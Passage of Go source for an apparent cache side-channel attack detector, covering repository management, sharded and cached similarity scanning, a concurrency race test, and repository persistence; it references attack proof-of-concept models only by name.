	return append([]Entry(nil), r.Entries...), r.version
}

// distCache returns the repository's shared Levenshtein memo, creating
// it on first use. The cache stores unweighted D_IS values only, so one
// cache serves every detector and similarity configuration built over
// this repository.
func (r *Repository) distCache() *scan.DistCache {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.cache == nil {
		r.cache = scan.NewDistCache()
	}
	return r.cache
}

// Families returns the distinct families represented in the
// repository. The result is guaranteed deterministic: each family
// appears exactly once regardless of how many entries carry it or in
// what order they were added, and the slice is sorted in ascending
// lexicographic order of the family label. Callers may rely on this
// ordering (reports, golden files, cross-process comparisons).
func (r *Repository) Families() []attacks.Family {
	r.mu.RLock()
	defer r.mu.RUnlock()
	seen := make(map[attacks.Family]bool)
	for _, e := range r.Entries {
		seen[e.Family] = true
	}
	out := make([]attacks.Family, 0, len(seen))
	for f := range seen {
		out = append(out, f)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// BuildRepository models each PoC (with its victim when it has one) and
// stores the resulting CST-BBSes. This is the "one PoC per attack type"
// modeling step the paper's evaluation uses.
func BuildRepository(pocs []attacks.PoC, cfg model.Config) (*Repository, error) {
	r := &Repository{}
	for _, poc := range pocs {
		m, err := model.Build(poc.Program, poc.Victim, cfg)
		if err != nil {
			return nil, fmt.Errorf("detect: modeling %s: %w", poc.Name, err)
		}
		r.Add(poc.Name, poc.Family, m.BBS)
	}
	return r, nil
}

// Match is one repository comparison result.
type Match struct {
	Name   string
	Family attacks.Family
	Score  float64
	// Pruned marks entries skipped by an early-abandoning scan
	// (Detector.Scan.Prune); their Score is an upper bound on the true
	// score. The best match is never pruned.
	Pruned bool
}

// Result is a classification outcome.
type Result struct {
	// Predicted is the inferred family, or attacks.FamilyBenign when no
	// score reached the threshold.
	Predicted attacks.Family
	// Best is the highest-scoring repository entry.
	Best Match
	// Matches lists every comparison, best first.
	Matches []Match
}

// Detector classifies target programs against a repository.
//
// A Detector is safe for concurrent use: Classify and ClassifyBBS may
// be called from many goroutines, and the repository may keep growing
// through Add while they run (each call scans a snapshot). Mutating the
// configuration fields concurrently with classification is not
// supported.
type Detector struct {
	Repo      *Repository
	Threshold float64
	ModelCfg  model.Config
	SimOpts   similarity.Options
	// RequireTimer gates classification on the target having read a
	// timer at least once: a cache side-channel attack measures timing
	// differences by definition, so a timer-free program is benign
	// regardless of its cache-access shape. Disable for ablations.
	RequireTimer bool
	// Scan tunes the repository scan engine (worker count, early
	// abandoning). Scan.Sim, Scan.Cache and Scan.Telemetry are ignored:
	// the engine always uses SimOpts, the repository's shared distance
	// cache and the detector's Telemetry collector.
	Scan scan.Config
	// Shards, when > 1, scans the repository through the scatter–gather
	// layer (internal/shard) over that many in-process shard engines
	// instead of one engine. Exact-mode results stay bit-identical to
	// the single-engine scan; pruned scans share one cutoff across
	// shards. Ignored when ShardAddrs is set.
	Shards int
	// ShardAddrs lists remote shard servers ("host:port" or http://
	// URLs, one shard per address in router order — each typically a
	// `scaguard shard-serve` process over the same repository file).
	// An address may name several "|"-separated replicas serving the
	// same partition ("a:7070|b:7070"): scans fail over between them,
	// so classification stays complete while at least one replica per
	// partition lives. When non-empty the repository scan is scattered
	// over them; a whole replica group going dark degrades
	// classification to the surviving shards' entries (see the
	// partial-result notes on the classify methods) instead of hanging
	// it.
	ShardAddrs []string
	// ShardPolicy selects how repository entries map to shards
	// (default shard.PolicyHash, rendezvous hashing).
	ShardPolicy shard.Policy
	// ShardTimeout, when positive, bounds each shard's share of one
	// scan; a shard that exceeds it fails that scan and the result
	// degrades instead of waiting.
	ShardTimeout time.Duration
	// ShardRetry re-sends failed remote-shard RPCs (transient network
	// errors only); the zero policy sends once.
	ShardRetry retry.Policy
	// ShardAttemptTimeout, when positive, bounds each replica attempt
	// within a replicated shard, so a slow replica fails over instead of
	// consuming the whole per-shard budget (ShardTimeout still bounds
	// the group as a whole).
	ShardAttemptTimeout time.Duration
	// ShardBreaker tunes the per-replica circuit breakers of replicated
	// remote shards: after Threshold consecutive failures a backend is
	// skipped (scans fail over without paying its timeout) until it
	// probes healthy again. The zero value selects the breaker
	// defaults; Threshold -1 disables breaking.
	ShardBreaker breaker.Settings
	// ShardProbeInterval, when positive, runs a background health
	// prober over every remote replica so quarantined backends are
	// re-admitted within one interval of recovering, without waiting
	// for a scan to re-probe them. The prober goroutine lives until the
	// engine is rebuilt or Close is called.
	ShardProbeInterval time.Duration
	// ResultCache, when > 0, memoizes whole scan outcomes in a bounded
	// LRU of that many entries (internal/vcache), keyed by the target's
	// CST-BBS content hash, the repository version and the scan
	// semantics. Repeated targets — identical binaries classified again,
	// streams of mutated-then-reverted variants — skip the repository
	// scan entirely, and concurrent identical targets collapse onto one
	// scan (singleflight). Any Repository.Add bumps the version and
	// thereby invalidates every cached result; partial results from
	// degraded sharded scans are never cached. Exact-mode cached
	// verdicts are bit-identical to uncached scans; see
	// docs/PERFORMANCE.md and docs/ROBUSTNESS.md.
	ResultCache int
	// Timeout, when positive, is the per-classification deadline the
	// context-aware entry points (ClassifyCtx, ClassifyBBSCtx,
	// ClassifyBatchCtx) apply on top of their caller's context: each
	// call gets its own deadline covering modeling and scanning, and an
	// expired deadline surfaces as context.DeadlineExceeded. The
	// non-context APIs ignore it.
	Timeout time.Duration
	// Telemetry optionally collects runtime counters and stage
	// latencies across the whole detection pipeline: scan pruning
	// outcomes, engine rebuilds, model-vs-scan wall time and the
	// repository DistCache hit rates (registered as the "distcache"
	// gauge source). nil disables instrumentation at zero cost. Like the
	// other configuration fields, set it before the first
	// classification.
	Telemetry *telemetry.Collector

	// scanner cache, rebuilt when the repository or the configuration
	// it was built under changes.
	mu         sync.Mutex
	eng        repoScanner
	engEntries []Entry
	engVer     uint64
	engKey     engineKey
	// engCoord is the shard coordinator behind eng (nil unless
	// sharded); rebuilds and Close stop its background prober.
	engCoord *shard.Coordinator
	// engRaw is the unwrapped scan engine behind eng (nil when
	// sharded). Kept so a rebuild caused by Repository.Add/Replace can
	// hand the previous repository index back via scan.Config.IndexFrom
	// and extend it incrementally instead of paying the O(n²) rebuild.
	engRaw *scan.Engine
	// vc is the verdict result cache behind ResultCache. It outlives
	// engine rebuilds on purpose: version-keyed entries from before an
	// Add are unreachable anyway, while a pure configuration flip (e.g.
	// toggling Telemetry) keeps its warm entries.
	vc    *vcache.Cache
	vcCap int
	vcTel *telemetry.Collector
}

// repoScanner is what classification needs from the scan layer: one
// target or a batch, positional matches out. A single scan.Engine and
// a shard.Coordinator both satisfy it, so the sharded repository hides
// behind the same Classify/ClassifyBatch/Ctx API.
type repoScanner interface {
	ScanCtx(ctx context.Context, bbs *model.CSTBBS) ([]scan.Match, error)
	ScanBatchCtx(ctx context.Context, targets []*model.CSTBBS) ([][]scan.Match, error)
}

// engineKey captures the configuration a scanner was built under.
type engineKey struct {
	workers        int
	prune          bool
	cascade        bool
	index          bool
	indexClusters  int
	indexMax       int
	sim            similarity.Options
	tel            *telemetry.Collector
	shards         int
	policy         shard.Policy
	addrs          string
	shardTimeout   time.Duration
	shardRetry     retry.Policy
	attemptTimeout time.Duration
	brk            breaker.Settings
	probeInterval  time.Duration
	resultCache    int
}

func (d *Detector) key() engineKey {
	return engineKey{
		workers: d.Scan.Workers, prune: d.Scan.Prune, cascade: d.Scan.Cascade,
		index: d.Scan.Index, indexClusters: d.Scan.IndexClusters, indexMax: d.Scan.IndexMaxClusters,
		sim: d.SimOpts, tel: d.Telemetry,
		shards: d.Shards, policy: d.ShardPolicy, addrs: strings.Join(d.ShardAddrs, ","),
		shardTimeout: d.ShardTimeout, shardRetry: d.ShardRetry,
		attemptTimeout: d.ShardAttemptTimeout, brk: d.ShardBreaker, probeInterval: d.ShardProbeInterval,
		resultCache: d.ResultCache,
	}
}

// sharded reports whether scans go through the scatter–gather layer.
func (d *Detector) sharded() bool { return len(d.ShardAddrs) > 0 || d.Shards > 1 }

// engine returns a scanner over the current repository snapshot,
// rebuilding it only when the repository version or the detector
// configuration has changed since the last call. The returned entry
// slice is the snapshot the scanner indexes into.
func (d *Detector) engine() (repoScanner, []Entry, error) {
	d.mu.Lock()
	defer d.mu.Unlock()
	entries, ver := d.Repo.snapshot()
	k := d.key()
	if d.eng != nil && d.engVer == ver && d.engKey == k && len(d.engEntries) == len(entries) {
		d.Telemetry.Inc(telemetry.DetectEngineReuses)
		return d.eng, d.engEntries, nil
	}
	d.Telemetry.Inc(telemetry.DetectEngineRebuilds)
	models := make([]*model.CSTBBS, len(entries))
	for i, e := range entries {
		models[i] = e.BBS
	}
	cfg := d.Scan
	cfg.Sim = d.SimOpts
	cfg.Cache = d.Repo.distCache()
	cfg.Telemetry = d.Telemetry
	// The repository cache outlives any one engine, so registering its
	// gauges on every rebuild is idempotent by name.
	d.Telemetry.RegisterGauges("distcache", cfg.Cache.TelemetryGauges)
	repo := d.Repo
	d.Telemetry.RegisterGauges("repository", func() map[string]uint64 {
		return map[string]uint64{"entries": uint64(repo.Len())}
	})
	// Incremental repository-index reuse across the version-bump seam:
	// when only the repository grew (Add/Replace appending entries —
	// the previous snapshot is a pointer-identical prefix of the new
	// one) under unchanged index-shaping configuration, seed the new
	// engine with the old index so appended entries join their nearest
	// medoid instead of triggering a full O(n²) rebuild. Sharded
	// engines always rebuild: each shard owns its own slice index.
	if cfg.Index && cfg.Prune && !d.sharded() && d.engRaw != nil &&
		k.index == d.engKey.index && k.indexClusters == d.engKey.indexClusters && k.sim == d.engKey.sim {
		if prev := d.engRaw.Index(); prev != nil && extendsPrefix(entries, d.engEntries) {
			cfg.IndexFrom = prev
		}
	}
	sc, co, err := d.buildScanner(models, cfg, ver)
	if err != nil {
		return nil, nil, fmt.Errorf("detect: building sharded scanner: %w", err)
	}
	raw, _ := sc.(*scan.Engine)
	if d.ResultCache > 0 {
		sc = d.wrapCached(sc, ver, cfg)
	}
	// The outgoing coordinator's background prober must not outlive the
	// engine it served.
	d.engCoord.Close()
	d.eng, d.engCoord, d.engRaw = sc, co, raw
	d.engEntries, d.engVer, d.engKey = entries, ver, k
	return d.eng, d.engEntries, nil
}

// extendsPrefix reports whether the new snapshot is an append-only
// extension of the old one: same leading entries (pointer-identical
// models — Replace swaps the slice header but reuses untouched entry
// values) with zero or more appended.
func extendsPrefix(entries, old []Entry) bool {
	if len(entries) < len(old) {
		return false
	}
	for i := range old {
		if entries[i].BBS != old[i].BBS {
			return false
		}
	}
	return true
}

// Close releases the detector's background resources — today the
// health prober of a replicated remote-shard engine. Idempotent; a
// closed detector may keep classifying (the next engine rebuild starts
// a fresh prober), so Close belongs at detector end-of-life or right
// before dropping the last reference.
func (d *Detector) Close() {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.engCoord.Close()
	d.engCoord = nil
}

// ShardBreakerStates reports each remote replica backend's circuit
// breaker state, keyed by address. Empty when the current engine is not
// a replicated remote fleet (or no engine is built yet).
func (d *Detector) ShardBreakerStates() map[string]breaker.State {
	d.mu.Lock()
	co := d.engCoord
	d.mu.Unlock()
	if co == nil {
		return nil
	}
	return co.BreakerStates()
}

// wrapCached layers the verdict result cache over the scan backend.
// The cache instance persists across engine rebuilds (repository
// version changes make stale entries unreachable by key, so no flush
// is needed); it is rebuilt only when its capacity or the telemetry
// collector changes. Caller holds d.mu.
func (d *Detector) wrapCached(sc repoScanner, ver uint64, cfg scan.Config) repoScanner {
	if d.vc == nil || d.vcCap != d.ResultCache || d.vcTel != d.Telemetry {
		d.vc = vcache.New(d.ResultCache, d.Telemetry)
		d.vcCap, d.vcTel = d.ResultCache, d.Telemetry
	}
	d.Telemetry.RegisterGauges("vcache", d.vc.TelemetryGauges)
	return &cachedScanner{
		inner:         sc,
		cache:         d.vc,
		ver:           ver,
		prune:         cfg.Prune,
		cascade:       cfg.Cascade,
		index:         cfg.Index,
		indexClusters: cfg.IndexClusters,
		indexMax:      cfg.IndexMaxClusters,
		sim:           cfg.Sim.WithDefaults(),
	}
}

// cachedScanner memoizes whole scan outcomes behind the repoScanner
// seam, so every classification entry point — single, batch, streaming
// — shares one result cache without knowing it exists.
type cachedScanner struct {
	inner         repoScanner
	cache         *vcache.Cache
	ver           uint64
	prune         bool
	cascade       bool
	index         bool
	indexClusters int
	indexMax      int
	sim           similarity.Options
}

func (s *cachedScanner) key(bbs *model.CSTBBS) vcache.Key {
	return vcache.Key{
		Target:        vcache.TargetHash(bbs),
		Version:       s.ver,
		Prune:         s.prune,
		Cascade:       s.cascade,
		Index:         s.index,
		IndexClusters: s.indexClusters,
		IndexMax:      s.indexMax,
		Window:        s.sim.Window,
		ISW:           s.sim.ISWeight,
		CSP:           s.sim.CSPWeight,
	}
}

// ScanCtx serves a memoized match list when one exists, else runs the
// inner scan and stores the outcome. A failed scan — including a
// degraded sharded scan returning partial matches alongside a
// *shard.PartialError — is passed through and never cached.
func (s *cachedScanner) ScanCtx(ctx context.Context, bbs *model.CSTBBS) ([]scan.Match, error) {
	res, _, err := s.cache.Do(ctx, s.key(bbs), func() (vcache.Result, bool, error) {
		ms, err := s.inner.ScanCtx(ctx, bbs)
		return vcache.Result{Matches: ms, Best: math.Inf(1)}, err == nil, err
	})
	// On a compute error Do returns the callback's Result verbatim, so
	// a degraded sharded scan keeps its usable partial matches here.
	return res.Matches, err
}

// ScanBatchCtx routes each target through the cache individually. A
// repository scan already saturates the worker pool per target, so the
// sequencing costs parallelism only on targets small enough not to
// matter — and cached targets skip their scan entirely, which a shared
// batch pass could not do. Error semantics mirror the shard
// coordinator's batch: partial failures degrade only their target and
// join into one error, anything else aborts the batch.
func (s *cachedScanner) ScanBatchCtx(ctx context.Context, targets []*model.CSTBBS) ([][]scan.Match, error) {
	results := make([][]scan.Match, len(targets))
	var partials []error
	for i, bbs := range targets {
		ms, err := s.ScanCtx(ctx, bbs)
		if err != nil {
			if isPartial(err) {
				results[i] = ms
				partials = append(partials, err)
				continue
			}
			return results, err
		}
		results[i] = ms
	}
	return results, errors.Join(partials...)
}

// buildScanner constructs the scan backend the configuration asks for:
// a single engine (the default), a local sharded coordinator, or a
// remote one (co is the coordinator when sharded, nil otherwise).
// Sharded coordinators register their per-shard stats as the "shards"
// telemetry gauge source; replicated remote fleets additionally expose
// per-backend breaker state as "breakers".
func (d *Detector) buildScanner(models []*model.CSTBBS, cfg scan.Config, ver uint64) (repoScanner, *shard.Coordinator, error) {
	if !d.sharded() {
		return scan.New(models, cfg), nil, nil
	}
	ccfg := shard.Config{
		ShardTimeout:   d.ShardTimeout,
		AttemptTimeout: d.ShardAttemptTimeout,
		Breaker:        d.ShardBreaker,
		ProbeInterval:  d.ShardProbeInterval,
		Telemetry:      d.Telemetry,
	}
	var (
		co  *shard.Coordinator
		err error
	)
	if len(d.ShardAddrs) > 0 {
		co, err = shard.NewRemoteCoordinator(models, d.ShardAddrs, shard.Router{Policy: d.ShardPolicy},
			cfg, shard.RemoteConfig{Retry: d.ShardRetry, Telemetry: d.Telemetry, Version: ver}, ccfg)
	} else {
		co, err = shard.NewLocalCoordinator(models, shard.Router{Shards: d.Shards, Policy: d.ShardPolicy}, cfg, ccfg)
	}
	if err != nil {
		return nil, nil, err
	}
	d.Telemetry.RegisterGauges("shards", co.TelemetryGauges)
	if len(d.ShardAddrs) > 0 {
		d.Telemetry.RegisterGauges("breakers", co.BreakerGauges)
	}
	return co, co, nil
}

// NewDetector returns a detector with the paper's defaults.
func NewDetector(repo *Repository) *Detector {
	return &Detector{
		Repo:         repo,
		Threshold:    DefaultThreshold,
		ModelCfg:     model.DefaultConfig(),
		SimOpts:      similarity.DefaultOptions(),
		RequireTimer: true,
	}
}

// benignResult is the explicit outcome for targets that never reach the
// similarity comparison: gated-out models and scans of an empty
// repository. Best names the benign family directly so callers reading
// Best.Family without checking Matches still get a truthful answer.
func benignResult() Result {
	return Result{
		Predicted: attacks.FamilyBenign,
		Best:      Match{Family: attacks.FamilyBenign},
	}
}

// BenignResult returns the explicit benign outcome used for targets
// that never reach the similarity comparison, for callers (the
// sliding-window detector) that synthesize benign verdicts — e.g. for
// quiet windows — and want them shaped exactly like gated ones.
func BenignResult() Result { return benignResult() }

// Gate reasons returned by GateReason.
const (
	// GateModelTooShort: the CST-BBS has fewer than MinModelLen
	// transitions — too little cache behavior to be an attack.
	GateModelTooShort = "model-too-short"
	// GateNoTimerReads: RequireTimer is set and the target never read a
	// timer — no measurement channel, hence no CSCA.
	GateNoTimerReads = "no-timer-reads"
)

// GateReason names the prerequisite that bars bbs from the similarity
// comparison, or "" when none does. Callers that surface
// benign-with-reason verdicts (the sliding-window detector, serve's
// window mode) use it to report why a target was benign by construction
// without duplicating the gate logic.
func (d *Detector) GateReason(bbs *model.CSTBBS) string {
	if bbs.Len() < MinModelLen {
		return GateModelTooShort
	}
	if d.RequireTimer && bbs.TimerReads == 0 {
		return GateNoTimerReads
	}
	return ""
}

// gated reports whether the target is benign by construction, before
// any repository comparison.
func (d *Detector) gated(bbs *model.CSTBBS) bool {
	return d.GateReason(bbs) != ""
}

// assemble turns the positional scan matches into a Result: named,
// sorted best-first (stable, so equal scores keep repository order) and
// thresholded.
func (d *Detector) assemble(entries []Entry, ms []scan.Match) Result {
	res := benignResult()
	if len(ms) == 0 {
		return res
	}
	res.Matches = make([]Match, len(ms))
	for i, m := range ms {
		e := entries[m.Index]
		res.Matches[i] = Match{Name: e.Name, Family: e.Family, Score: m.Score, Pruned: m.Pruned}
	}
	sort.SliceStable(res.Matches, func(i, j int) bool {
		return res.Matches[i].Score > res.Matches[j].Score
	})
	res.Best = res.Matches[0]
	if res.Best.Score >= d.Threshold {
		res.Predicted = res.Best.Family
	}
	return res
}

// withTimeout derives the per-classification deadline context when
// Timeout is set; the returned cancel is always safe to call.
func (d *Detector) withTimeout(ctx context.Context) (context.Context, context.CancelFunc) {
	if d.Timeout > 0 {
		return context.WithTimeout(ctx, d.Timeout)
	}
	return ctx, func() {}
}

// noteCtxErr counts context-caused failures so cancellations are
// visible in telemetry, and passes err through.
func (d *Detector) noteCtxErr(err error) error {
	if errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
		d.Telemetry.Inc(telemetry.DetectCancellations)
	}
	return err
}

// ClassifyBBS scores a pre-built behavior model against the repository.
// An empty repository, like a gated-out target, yields an explicitly
// benign result with no matches.
//
// On a sharded repository with failing shards this API degrades
// silently: the result covers the surviving shards' entries and the
// shard_degraded_scans telemetry counter records the gap. Use
// ClassifyBBSCtx to receive the *shard.PartialError alongside the
// partial result instead.
func (d *Detector) ClassifyBBS(bbs *model.CSTBBS) Result {
	res, err := d.classifyBBSCtx(context.Background(), bbs)
	if err != nil && !isPartial(err) {
		// No cancellation is possible on a background context; the
		// error is a recovered scan panic and this API's contract is to
		// crash loudly.
		_ = panicsafe.Repanic(err)
		panic(err)
	}
	return res
}

// isPartial reports whether err is a degraded-but-usable sharded scan.
func isPartial(err error) bool {
	var pe *shard.PartialError
	return errors.As(err, &pe)
}

// ClassifyBBSCtx is ClassifyBBS with cooperative cancellation and panic
// recovery: a cancelled or expired context (including the detector's
// per-classification Timeout) aborts the scan promptly, and a panic
// while scoring comes back as a *panicsafe.PanicError instead of
// crashing the process. On a non-nil error the Result is meaningless —
// with one exception: a *shard.PartialError (failing shards on a
// sharded repository) comes back WITH a usable Result covering the
// surviving shards' entries, and the caller decides whether a partial
// verdict is acceptable.
func (d *Detector) ClassifyBBSCtx(ctx context.Context, bbs *model.CSTBBS) (Result, error) {
	ctx, cancel := d.withTimeout(ctx)
	defer cancel()
	return d.classifyBBSCtx(ctx, bbs)
}

// classifyBBSCtx is the shared scan path; it does not reapply Timeout.
func (d *Detector) classifyBBSCtx(ctx context.Context, bbs *model.CSTBBS) (Result, error) {
	d.Telemetry.Inc(telemetry.DetectClassifications)
	if d.gated(bbs) {
		d.Telemetry.Inc(telemetry.DetectGated)
		return benignResult(), nil
	}
	eng, entries, err := d.engine()
	if err != nil {
		return Result{}, err
	}
	ms, err := eng.ScanCtx(ctx, bbs)
	if err != nil {
		if isPartial(err) {
			return d.assemble(entries, ms), err
		}
		return Result{}, d.noteCtxErr(err)
	}
	return d.assemble(entries, ms), nil
}

// ClassifyBatch classifies many pre-built behavior models in one scan
// pass, sharing the worker pool and warm distance cache across all of
// them. results[i] corresponds to targets[i]; gated-out targets get the
// same explicit benign result ClassifyBBS would give them, without
// occupying the scan.
// Like ClassifyBBS, failing shards of a sharded repository degrade the
// batch silently to the surviving shards' entries.
func (d *Detector) ClassifyBatch(targets []*model.CSTBBS) []Result {
	results, err := d.classifyBatchCtx(context.Background(), targets)
	if err != nil && !isPartial(err) {
		_ = panicsafe.Repanic(err)
		panic(err)
	}
	return results
}

// ClassifyBatchCtx is ClassifyBatch with cooperative cancellation and
// panic recovery. The detector's Timeout, when set, covers the whole
// batch. A cancelled or expired context stops the shared scan between
// work items and returns the context's error; a panic while scoring a
// target stops the batch and returns as a *panicsafe.PanicError. On a
// non-nil error the returned results are incomplete and must be
// discarded — per-target fault isolation is the streaming front end's
// job (internal/stream). The exception is a *shard.PartialError: every
// target still gets a Result, each covering the shards that survived
// its scan.
func (d *Detector) ClassifyBatchCtx(ctx context.Context, targets []*model.CSTBBS) ([]Result, error) {
	ctx, cancel := d.withTimeout(ctx)
	defer cancel()
	return d.classifyBatchCtx(ctx, targets)
}

func (d *Detector) classifyBatchCtx(ctx context.Context, targets []*model.CSTBBS) ([]Result, error) {
	d.Telemetry.Inc(telemetry.DetectBatches)
	d.Telemetry.Add(telemetry.DetectClassifications, uint64(len(targets)))
	results := make([]Result, len(targets))
	live := make([]*model.CSTBBS, 0, len(targets))
	liveIdx := make([]int, 0, len(targets))
	for i, bbs := range targets {
		if d.gated(bbs) {
			d.Telemetry.Inc(telemetry.DetectGated)
			results[i] = benignResult()
			continue
		}
		live = append(live, bbs)
		liveIdx = append(liveIdx, i)
	}
	if len(live) == 0 {
		return results, d.noteCtxErr(ctx.Err())
	}
	eng, entries, err := d.engine()
	if err != nil {
		return nil, err
	}
	batch, err := eng.ScanBatchCtx(ctx, live)
	if err != nil && !isPartial(err) {
		return nil, d.noteCtxErr(err)
	}
	for k, ms := range batch {
		results[liveIdx[k]] = d.assemble(entries, ms)
	}
	return results, err
}

// Classify models the target program (optionally alongside a victim
// workload) and scores it against the repository. When a Telemetry
// collector is attached, the modeling stage inherits it, so one run
// yields both the model-side and scan-side wall times.
func (d *Detector) Classify(prog *isa.Program, victim *isa.Program) (Result, *model.Model, error) {
	cfg := d.ModelCfg
	if cfg.Telemetry == nil {
		cfg.Telemetry = d.Telemetry
	}
	m, err := model.Build(prog, victim, cfg)
	if err != nil {
		return Result{}, nil, fmt.Errorf("detect: modeling target %s: %w", progName(prog), err)
	}
	return d.ClassifyBBS(m.BBS), m, nil
}

// ClassifyCtx is Classify with cooperative cancellation and a
// per-classification deadline: when the detector's Timeout is set, each
// call gets its own deadline covering both the modeling and the scan
// stage. Cancellation is observed at stage boundaries inside modeling
// and between work items inside the scan; a recovered scan panic
// surfaces as a *panicsafe.PanicError. On a non-nil error the Result is
// meaningless (the Model may still be non-nil when modeling succeeded
// and the scan failed).
func (d *Detector) ClassifyCtx(ctx context.Context, prog *isa.Program, victim *isa.Program) (Result, *model.Model, error) {
	ctx, cancel := d.withTimeout(ctx)
	defer cancel()
	cfg := d.ModelCfg
	if cfg.Telemetry == nil {
		cfg.Telemetry = d.Telemetry
	}
	m, err := model.BuildCtx(ctx, prog, victim, cfg)
	if err != nil {
		if cerr := d.noteCtxErr(err); errors.Is(cerr, context.Canceled) || errors.Is(cerr, context.DeadlineExceeded) {
			return Result{}, nil, cerr
		}
		return Result{}, nil, fmt.Errorf("detect: modeling target %s: %w", progName(prog), err)
	}
	res, err := d.classifyBBSCtx(ctx, m.BBS)
	if err != nil && !isPartial(err) {
		return Result{}, m, err
	}
	// A *shard.PartialError keeps its usable partial Result, exactly
	// like ClassifyBBSCtx — callers choose whether degraded is enough.
	return res, m, err
}

func progName(p *isa.Program) string {
	if p == nil {
		return "<nil>"
	}
	return p.Name
}
