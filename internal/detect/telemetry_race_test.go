package detect

// Race test for the telemetry-instrumented classification path: several
// goroutines drive ClassifyBatch while another mutates the repository
// with Add, all with a live collector and sink attached. Run under
// `go test -race ./internal/detect` (part of `make race`); the
// assertions additionally pin the snapshot consistency guarantees the
// telemetry package promises — counters never move backwards between
// snapshots, and the outcome counters land on the exact totals.

import (
	"fmt"
	"io"
	"sync"
	"testing"

	"repro/internal/attacks"
	"repro/internal/model"
	"repro/internal/telemetry"
)

func TestTelemetryRaceClassifyBatchVsAdd(t *testing.T) {
	p := attacks.DefaultParams()
	pocs := []attacks.PoC{
		attacks.FlushReloadIAIK(p),
		attacks.PrimeProbeIAIK(p),
	}
	r, err := BuildRepository(pocs, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}

	tel := telemetry.NewCollector()
	tel.SetSink(&telemetry.WriterSink{W: io.Discard})
	d := NewDetector(r)
	d.Telemetry = tel

	// Targets: the repository entries' own models, so every batch scores
	// real CST-BBS sequences against a repository that grows underneath.
	targets := make([]*model.CSTBBS, 0, len(r.Entries))
	for _, e := range r.Entries {
		targets = append(targets, e.BBS)
	}
	extra := r.Entries[0].BBS // model to Add under fresh names

	const (
		classifiers = 4
		batches     = 25
		adders      = 2
		adds        = 10
	)
	var wg sync.WaitGroup
	for g := 0; g < classifiers; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < batches; i++ {
				results := d.ClassifyBatch(targets)
				if len(results) != len(targets) {
					t.Errorf("batch returned %d results for %d targets", len(results), len(targets))
					return
				}
				for _, res := range results {
					if res.Predicted == "" {
						t.Error("empty predicted family")
						return
					}
				}
			}
		}()
	}
	for g := 0; g < adders; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < adds; i++ {
				r.Add(fmt.Sprintf("race-extra-%d-%d", g, i), attacks.FamilyFR, extra)
				tel.Flush() // exercise the sink concurrently with writers
			}
		}(g)
	}

	// Snapshot continuously while the work runs; every counter must be
	// monotone non-decreasing between successive snapshots.
	stop := make(chan struct{})
	snapDone := make(chan error, 1)
	go func() {
		last := map[string]uint64{}
		for {
			select {
			case <-stop:
				snapDone <- nil
				return
			default:
			}
			snap := tel.Snapshot()
			for name, v := range snap.Counters {
				if v < last[name] {
					snapDone <- fmt.Errorf("counter %s went backwards: %d -> %d", name, last[name], v)
					return
				}
				last[name] = v
			}
		}
	}()

	wg.Wait()
	close(stop)
	if err := <-snapDone; err != nil {
		t.Fatal(err)
	}

	snap := tel.Snapshot()
	wantClassifications := uint64(classifiers * batches * len(targets))
	if got := snap.Counters["detect_classifications"]; got != wantClassifications {
		t.Errorf("detect_classifications = %d, want %d", got, wantClassifications)
	}
	if got := snap.Counters["detect_batches"]; got != classifiers*batches {
		t.Errorf("detect_batches = %d, want %d", got, classifiers*batches)
	}
	rebuilds, reuses := snap.Counters["detect_engine_rebuilds"], snap.Counters["detect_engine_reuses"]
	if rebuilds == 0 {
		t.Error("no engine rebuilds recorded despite concurrent Adds")
	}
	if rebuilds+reuses != uint64(classifiers*batches) {
		t.Errorf("rebuilds(%d)+reuses(%d) != batches(%d)", rebuilds, reuses, classifiers*batches)
	}
	// Scan outcome counters partition the comparisons performed: with no
	// separate total, their sum IS the total, so any snapshot is
	// structurally consistent. Here just pin that work happened and that
	// gating stayed within bounds.
	sum := snap.Counters["scan_entries_exact"] +
		snap.Counters["scan_entries_lb_skipped"] +
		snap.Counters["scan_entries_abandoned"]
	if sum == 0 {
		t.Error("no scan entry outcomes recorded")
	}
	if gated := snap.Counters["detect_gated"]; gated > snap.Counters["detect_classifications"] {
		t.Errorf("detect_gated %d exceeds classifications %d", gated, snap.Counters["detect_classifications"])
	}
	if r.Len() != len(pocs)+adders*adds {
		t.Errorf("repository length = %d, want %d", r.Len(), len(pocs)+adders*adds)
	}
}
