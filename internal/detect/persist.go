package detect

import (
	"encoding/json"
	"fmt"
	"io"

	"repro/internal/attacks"
	"repro/internal/cache"
	"repro/internal/model"
)

// The wire format for a saved repository. Deployment (Section III-B3 of
// the paper) builds the repository once from PoCs and ships it to the
// detection hosts; persistence makes that split concrete.

type repoFile struct {
	Version int         `json:"version"`
	Entries []entryFile `json:"entries"`
}

type entryFile struct {
	Name       string    `json:"name"`
	Family     string    `json:"family"`
	TimerReads uint64    `json:"timer_reads"`
	Seq        []cstFile `json:"seq"`
}

type cstFile struct {
	Leader     uint64   `json:"leader"`
	BeforeAO   float64  `json:"before_ao"`
	BeforeIO   float64  `json:"before_io"`
	AfterAO    float64  `json:"after_ao"`
	AfterIO    float64  `json:"after_io"`
	NormInsns  []string `json:"norm_insns"`
	FirstCycle uint64   `json:"first_cycle"`
	HPCValue   uint64   `json:"hpc_value"`
}

const repoFormatVersion = 1

// Save writes the repository as JSON. It holds the repository read lock
// for the duration, so it may run concurrently with classification.
func (r *Repository) Save(w io.Writer) error {
	r.mu.RLock()
	defer r.mu.RUnlock()
	out := repoFile{Version: repoFormatVersion}
	for _, e := range r.Entries {
		ef := entryFile{Name: e.Name, Family: string(e.Family), TimerReads: e.BBS.TimerReads}
		for _, c := range e.BBS.Seq {
			ef.Seq = append(ef.Seq, cstFile{
				Leader:     c.Leader,
				BeforeAO:   c.Before.AO,
				BeforeIO:   c.Before.IO,
				AfterAO:    c.After.AO,
				AfterIO:    c.After.IO,
				NormInsns:  c.NormInsns,
				FirstCycle: c.FirstCycle,
				HPCValue:   c.HPCValue,
			})
		}
		out.Entries = append(out.Entries, ef)
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(out)
}

// LoadRepository reads a repository saved with Save.
func LoadRepository(r io.Reader) (*Repository, error) {
	var in repoFile
